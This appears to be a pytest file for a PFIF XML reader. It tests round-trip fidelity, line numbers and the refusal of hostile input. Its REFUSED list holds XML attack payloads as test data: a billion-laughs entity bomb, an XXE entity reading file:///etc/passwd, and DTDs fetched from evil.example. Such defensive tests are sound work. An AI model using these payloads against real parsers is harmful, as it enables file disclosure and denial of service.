"""Reading PFIF: every line right, everything hostile refused at its line, and nothing held that need not be."""

from __future__ import annotations

import tracemalloc
from itertools import repeat
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from khabar.adapters.pfif import decoding, pfif_bytes, read_document, read_pfif, read_pfif_chunks, reading
from khabar.domain.errors import Invalid
from khabar.domain.pfif import Document, DocumentFault, Entry, Oddity, Record, RecordKind, Start, Version, validate
from pfif_parts import NOW, bare, darius, documents, shirins_note

if TYPE_CHECKING:
    from collections.abc import Iterable
    from pathlib import Path

OPEN = '<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">'
CLOSE = "</pfif:pfif>"
PERSON = (
    "<pfif:person>\n<pfif:person_record_id>people.example/p.1</pfif:person_record_id>\n"
    "<pfif:source_date>2026-03-01T08:30:00Z</pfif:source_date>\n<pfif:full_name>داریوش</pfif:full_name>\n</pfif:person>"
)


def faults(*chunks: bytes | str) -> DocumentFault:
    """The fault for which a document is refused; nothing of it may be given after that."""
    with pytest.raises(DocumentFault) as caught:
        list(read_pfif_chunks(one.encode() if isinstance(one, str) else one for one in chunks))
    return caught.value


def oddities(*chunks: str) -> list[tuple[str, int, str]]:
    events = read_pfif_chunks(one.encode() for one in chunks)
    found: list[Oddity] = []
    for event in events:
        found += [event] if isinstance(event, Oddity) else event.oddities if isinstance(event, Record) else []
    return [(one.rule, one.line, one.field) for one in found]


# What is well


@settings(max_examples=40)
@given(documents(), st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]), st.integers(1, 500))
def test_what_is_written_is_read_back_field_by_field_in_every_version_and_encoding(
    document: Document, encoding: str, size: int
) -> None:
    content = pfif_bytes(document).decode().replace("UTF-8", encoding.upper()[:6].rstrip("-"), 1).encode(encoding)
    events = list(read_pfif_chunks(content[at : at + size] for at in range(0, len(content), size)))
    assert isinstance(events[0], Start)
    assert events[0].version is document.version
    assert tuple(bare(one) for one in events[1:] if isinstance(one, Record)) == tuple(map(bare, document.persons))


@settings(max_examples=40)
@given(documents())
def test_reading_and_writing_again_gives_the_same_bytes(document: Document) -> None:
    content = pfif_bytes(document)
    assert pfif_bytes(read_document(content)) == content


def test_notes_outside_their_persons_are_read_too() -> None:
    document = Document(Version.V1_2, (darius(Version.V1_2),), (shirins_note(Version.V1_2, person_record_id="a.b/c"),))
    back = read_document(pfif_bytes(document))
    assert tuple(map(bare, back.notes)) == tuple(map(bare, document.notes))


def test_lines_are_right_beyond_the_65535th() -> None:
    blank = "\n" * 70_000
    (start, one, *_) = read_pfif_chunks([f"{OPEN}{blank}{PERSON}\n{CLOSE}".encode()])
    assert isinstance(start, Start)
    assert isinstance(one, Record)
    assert (start.line, one.line, one.line_of("full_name")) == (1, 70_001, 70_004)


def test_a_document_read_in_single_bytes_is_the_same() -> None:
    content = f"{OPEN}{PERSON}{CLOSE}".encode()
    assert list(read_pfif_chunks(content[at : at + 1] for at in range(len(content)))) == list(
        read_pfif_chunks([content])
    )


def test_a_field_may_hold_cdata_comments_and_references_to_characters() -> None:
    person = PERSON.replace("داریوش", "Dar<!-- no -->ius<![CDATA[ <b>]]>&#233;&amp;")
    (_, one) = read_pfif_chunks([f"{OPEN}{person}{CLOSE}".encode()])
    assert isinstance(one, Record)
    assert one.text("full_name") == "Darius <b>é&"


def test_a_file_is_read_from_its_path(tmp_path: Path) -> None:
    path = tmp_path / "list.xml"
    path.write_text(f"{OPEN}{PERSON}{CLOSE}", encoding="utf-8")
    assert len(list(read_pfif(path))) == 2


# What is strange, and said


@pytest.mark.parametrize(
    ("document", "told"),
    [
        (f'{OPEN}<pfif:person id="1"></pfif:person>{CLOSE}', ("attribute", 1, "person")),
        (f"{OPEN}\n<pfif:person>hello</pfif:person>{CLOSE}", ("stray-text", 2, "")),
        (f"{OPEN}\n\nhello{CLOSE}", ("stray-text", 3, "")),
        (f"{OPEN}<pfif:entry><a>b</a></pfif:entry>{CLOSE}", ("unknown-field", 1, "entry")),
        (f"{OPEN}<pfif:person><pfif:age><b>4</b></pfif:age></pfif:person>{CLOSE}", ("nested-element", 1, "age")),
    ],
)
def test_what_no_schema_knows_is_said_with_its_line(document: str, told: tuple[str, int, str]) -> None:
    assert oddities(document) == [told]


def test_an_element_of_another_namespace_is_never_taken_for_a_field() -> None:
    document = f'{OPEN}<pfif:person xmlns="urn:x"><full_name>Darius</full_name><note/></pfif:person>{CLOSE}'
    (_, one) = read_pfif_chunks([document.encode()])
    assert isinstance(one, Record)
    assert [entry.name for entry in one.entries] == ["{urn:x}full_name", "{urn:x}note"]
    assert one.text("full_name") == ""


def test_a_note_inside_a_note_is_no_note_of_the_person() -> None:
    document = f"{OPEN}<pfif:note><pfif:note>x</pfif:note></pfif:note>{CLOSE}"
    (_, one) = read_pfif_chunks([document.encode()])
    assert isinstance(one, Record)
    assert (one.kind, one.notes, [entry.name for entry in one.entries]) == (RecordKind.NOTE, (), ["note"])


def test_oddities_without_end_in_one_record_are_not_all_kept() -> None:
    document = f"{OPEN}<pfif:person>{'<pfif:age><b/></pfif:age>' * 100}</pfif:person>{CLOSE}"
    assert len(oddities(document)) == reading.DEEPEST


# What is refused

LAUGHS = '<!DOCTYPE p [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE p [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'

REFUSED: list[tuple[str, int, str | bytes]] = [
    ("doctype", 1, f"{LAUGHS}{OPEN}&b;{CLOSE}"),
    ("doctype", 1, f"{OUTSIDE}{OPEN}&x;{CLOSE}"),
    ("doctype", 2, f"<!-- -->\n{PARAMETER}{OPEN}{CLOSE}"),
    ("doctype", 1, f'<!DOCTYPE pfif SYSTEM "http://evil.example/pfif.dtd">{OPEN}{CLOSE}'),
    ("doctype", 1, f"<!DOCTYPE pfif>{OPEN}{CLOSE}"),
    ("xml", 1, f"{OPEN}&unknown;{CLOSE}"),
    ("xml", 2, f"{OPEN}\n<pfif:person>{CLOSE}"),
    ("xml", 1, f"{OPEN}{CLOSE}{OPEN}{CLOSE}"),
    ("xml", 1, f"{OPEN}&#1;{CLOSE}"),
    ("xml", 1, f"{OPEN}&#0;{CLOSE}"),
    ("xml", 1, f"{OPEN}&#xFFFE;{CLOSE}"),
    ("xml", 1, f"{OPEN}<person:x/>{CLOSE}"),
    ("xml", 1, ""),
    ("xml", 1, "id,name\np1,Darius"),
    ("control-character", 2, f"{OPEN}\nDar\x00ius{CLOSE}"),
    ("control-character", 1, f"{OPEN}\x1b[2J{CLOSE}"),
    ("control-character", 1, f"{OPEN}\ufffe{CLOSE}"),
    ("charset", 3, f"{OPEN}\n\n".encode() + b"Dari\xfas" + CLOSE.encode()),
    ("charset", 1, f"{OPEN}\u062f".encode()[:-1]),
    ("charset", 1, f'<?xml version="1.0" encoding="windows-1256"?>{OPEN}{CLOSE}'),
    ("charset", 1, f'<?xml version="1.0" encoding="UTF-16"?>{OPEN}{CLOSE}'),
    ("charset", 1, f'<?xml version="1.0" encoding="UTF-8"?>{OPEN}{CLOSE}'.encode("utf-16")),
    ("charset", 1, f"{OPEN}{CLOSE}".encode("utf-16-le")),
    ("charset", 1, f"{OPEN}{CLOSE}".encode("utf-16-be")),
    ("charset", 1, f"{OPEN}{CLOSE}".encode("utf-32")),
    ("charset", 1, f"{OPEN}{CLOSE}".encode("utf-32-be")),
    ("charset", 1, f"{OPEN}{CLOSE}".encode("utf-16")[:-1]),
    ("namespace", 1, "<pfif><person/></pfif>"),
    ("namespace", 1, '<pfif xmlns="http://evil.example/1.4"/>'),
    ("namespace", 1, '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:pfif="http://zesty.ca/pfif/1.4"/>'),
    ("version", 1, '<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.5"/>'),
    ("version", 1, '<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.0"/>'),
    ("too-deep", 1, OPEN + "<a>" * 9),
    ("too-large", 1, f"{OPEN}<pfif:person><pfif:full_name>{'a' * 1_000_001}</pfif:full_name></pfif:person>{CLOSE}"),
    ("too-large", 1, OPEN + "<pfif:person " + "a" * 300_000),
    ("too-large", 1, OPEN + "<!-- " + "a" * 300_000),
    ("too-large", 1, f"{OPEN}<pfif:person>{'<pfif:age/>' * 100_001}</pfif:person>{CLOSE}"),
]


@pytest.mark.parametrize(("rule", "line", "document"), REFUSED)
def test_what_is_hostile_or_broken_is_refused_at_its_line(rule: str, line: int, document: str | bytes) -> None:
    fault = faults(document)
    assert (fault.rule, fault.line) == (rule, line)
    assert "\n" not in str(fault)


def test_nothing_is_expanded_before_it_is_refused() -> None:
    lines = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 40))
    tracemalloc.start()
    assert faults(f'<!DOCTYPE p [<!ENTITY l0 "ha">{lines}]>{OPEN}&l39;{CLOSE}').rule == "doctype"
    assert tracemalloc.get_traced_memory()[1] < 2_000_000
    tracemalloc.stop()


def test_a_record_that_never_ends_is_refused_though_each_field_is_short(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "LARGEST_RECORD", 5000)
    field = f"<pfif:other>{'a' * 900}</pfif:other>"
    assert faults(OPEN, "<pfif:person>", *repeat(field, 6)).rule == "too-large"
    apart = f"<pfif:person>{field}</pfif:person>"
    assert len(list(read_pfif_chunks([f"{OPEN}{apart * 9}{CLOSE}".encode()]))) == 10


def test_a_file_of_one_gigabyte_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "large.xml"
    with path.open("wb") as file:
        file.truncate(1024**3)
    with pytest.raises(DocumentFault) as caught:
        next(read_pfif(path))
    assert caught.value.rule == "too-large"


def test_bytes_without_end_are_refused_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(decoding, "MOST_BYTES", 300_000)
    read: list[int] = []

    def endless() -> Iterable[bytes]:
        yield OPEN.encode()
        while True:
            read.append(10_000)
            yield (b" " * 9_999) + b"\n"

    with pytest.raises(DocumentFault) as caught:
        list(read_pfif_chunks(endless()))
    assert caught.value.rule == "too-large"
    assert sum(read) < 320_000


@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_refused_and_nothing_else(content: bytes) -> None:
    report = validate(read_pfif_chunks([OPEN.encode() + content + CLOSE.encode()]), now=NOW)
    assert report.version in (Version.V1_4, None)


# Writing


@pytest.mark.parametrize(
    ("record", "field"),
    [(darius(full_name="Dar\x00ius"), "full_name"), (Record(RecordKind.PERSON, (Entry("other", "x"),)), "other")],
)
def test_what_cannot_be_written_is_refused_by_its_field(record: Record, field: str) -> None:
    with pytest.raises(Invalid) as caught:
        pfif_bytes(Document(Version.V1_4, (record,)))
    assert caught.value.field == field


def test_fields_are_written_in_the_order_of_the_version() -> None:
    backwards = Record(RecordKind.PERSON, tuple(reversed(darius(Version.V1_1).entries)))
    assert pfif_bytes(Document(Version.V1_1, (backwards,))) == pfif_bytes(
        Document(Version.V1_1, (darius(Version.V1_1),))
    )


def test_a_document_in_memory_without_a_start_line_is_still_read() -> None:
    assert read_document(f"\n{OPEN}{PERSON}stray{CLOSE}".encode()).persons[0].line == 2
